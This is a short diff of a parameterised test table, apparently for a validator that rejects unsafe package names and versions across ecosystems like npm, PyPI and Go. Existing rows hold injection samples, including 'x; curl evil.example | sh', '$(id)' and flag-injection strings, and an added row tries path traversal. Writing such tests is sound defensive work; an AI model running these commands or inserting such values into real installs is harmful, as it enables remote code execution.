@@ -17,6 +17,10 @@ it.each<[string | null, string, string, string | null]>([
   [null, 'NetScaler ADC', '14.1-8.50', null],
   ['npm', 'x; curl evil.example | sh', '1.0.0', null],
   ['npm', '-g', '1.0.0', null],
+  ['npm', 'stranger/repository', '1.0.0', null],
+  ['npm', 'left-pad.tgz', '1.0.0', null],
+  ['Go', 'all', '1.0.0', null],
+  ['PyPI', 'requests/../x', '1.0.0', null],
   ['npm', 'x', '$(id)', null],
   ['npm', 'x', '1.0.0 --unsafe', null],
 ])('%s %s %s', (ecosystem, name, version, expected) => {
